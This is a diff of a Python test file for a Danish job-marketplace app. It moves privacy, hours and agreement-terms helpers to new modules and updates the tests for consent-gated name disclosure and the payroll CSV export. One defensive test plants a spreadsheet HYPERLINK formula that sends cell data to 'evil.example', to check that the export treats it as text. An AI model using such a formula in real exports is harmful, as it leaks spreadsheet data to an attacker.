@@ -11,9 +11,9 @@ from decimal import Decimal
 import pytest
 from sqlalchemy import func, select
 
-from marketplace import hours, privacy
+from marketplace.agreements.terms import versions_of
 from marketplace.extensions import db
-from marketplace.ladder_terms import versions_of
+from marketplace.hours import ledger as hours
 from marketplace.models import (
     AccessLogEntry,
     CandidateIdentity,
@@ -21,6 +21,7 @@ from marketplace.models import (
     HourKind,
     Role,
 )
+from marketplace.privacy import disclosure
 from tests.html_forms import error_ids
 from tests.unit.test_hour_records import MONDAY, confirm, paid_placement
 from tests.unit.test_ladder_steps import ladder_job
@@ -60,7 +61,7 @@ def test_the_company_export_is_for_danish_excel_and_streamed(client, login, empl
     assert response.is_streamed
     rows = rows_of(response)
     assert rows[0] == ["Dato", "Person", "Slags", "Timer", "Timeløn"]
-    pseudonym = privacy.pseudonym(placement.candidate_id, placement.company_id)
+    pseudonym = disclosure.pseudonym(placement.candidate_id, placement.company_id)
     wage = format(Decimal(placement.job.hourly_wage).normalize(), "f").replace(".", ",")
     assert rows[1:] == [
         [(MONDAY + timedelta(days=1)).isoformat(), pseudonym, "Lønnede timer", "3", wage],
@@ -91,7 +92,7 @@ def test_a_corrected_day_is_exported_once_with_its_new_figure(client, login, emp
 def test_the_name_shows_only_with_consent_and_is_audited(
     client, login, employer, consultant, placement
 ):
-    privacy.record_consent(placement.proposal, consultant, ConsentMethod.IN_PERSON)
+    disclosure.record_consent(placement.proposal, consultant, ConsentMethod.IN_PERSON)
     db.session.commit()
     views = db.session.scalar(select(func.count(AccessLogEntry.id)))
     login(employer)
@@ -164,7 +165,7 @@ def test_a_name_typed_as_a_formula_reaches_payroll_as_text(
 ):
     formula = '=HYPERLINK("https://evil.example/?x="&A1,"Klik")'
     db.session.get(CandidateIdentity, placement.candidate_id).full_name = formula
-    privacy.record_consent(placement.proposal, consultant, ConsentMethod.IN_PERSON)
+    disclosure.record_consent(placement.proposal, consultant, ConsentMethod.IN_PERSON)
     db.session.commit()
     login(employer)
     rows = rows_of(company_export(client))
